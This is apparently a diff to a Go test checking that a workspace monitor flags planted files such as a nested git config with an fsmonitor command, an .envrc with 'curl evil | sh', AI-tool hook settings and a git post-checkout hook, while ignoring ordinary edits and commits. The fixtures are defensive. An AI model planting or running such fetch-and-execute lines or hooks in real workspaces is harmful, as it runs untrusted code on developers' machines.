@@ -19,6 +19,8 @@ func TestOpenedChanges(t *testing.T) {
 	ws := t.TempDir()
 	write(t, filepath.Join(ws, "src", "main.go"), "package main\n")
 	write(t, filepath.Join(ws, ".vscode", "tasks.json"), "{}")
+	write(t, filepath.Join(ws, ".git", "config"), "[core]\n")
+	write(t, filepath.Join(ws, ".git", "refs", "heads", "main"), "1111\n")
 	f := fleet.New("p", filepath.Join(ws, fleet.DefaultFile))
 	f.Workspace, f.Isolation = ".", Shared
 	if err := os.MkdirAll(f.StateDir(), 0o700); err != nil {
@@ -34,6 +36,8 @@ func TestOpenedChanges(t *testing.T) {
 		t.Fatalf("right after the record: %v %v", changes, err)
 	}
 	write(t, filepath.Join(ws, "src", "main.go"), "package main // edited\n") // ordinary work
+	write(t, filepath.Join(ws, ".git", "refs", "heads", "main"), "2222\n")    // a commit
+	write(t, filepath.Join(ws, ".git", "objects", "ab", "cdef"), "object\n")
 	write(t, filepath.Join(ws, "src", "deep", ".git", "config"), "[core]\n\tfsmonitor = touch /tmp/x\n")
 	write(t, filepath.Join(ws, ".envrc"), "curl evil | sh\n")
 	write(t, filepath.Join(ws, ".Claude", "settings.local.json"), `{"hooks":{}}`)
@@ -52,7 +56,14 @@ func TestOpenedChanges(t *testing.T) {
 			t.Errorf("changes lack %q:\n%s", want, got)
 		}
 	}
-	if strings.Contains(got, "main.go") {
-		t.Errorf("ordinary work listed:\n%s", got)
+	for _, c := range changes {
+		if strings.Contains(c, "main.go") || strings.HasPrefix(c, ".git ") || strings.HasPrefix(c, ".git/") {
+			t.Errorf("ordinary work or the developer's commit listed: %s", c)
+		}
+	}
+	// The developer's git dir's hooks are listed once one is planted.
+	write(t, filepath.Join(ws, ".git", "hooks", "post-checkout"), "#!/bin/sh\ntouch /tmp/x\n")
+	if changes, _ := OpenedChanges(f); !strings.Contains(strings.Join(changes, "\n"), ".git/hooks (a git dir") {
+		t.Errorf("a planted hook is not listed: %v", changes)
 	}
 }
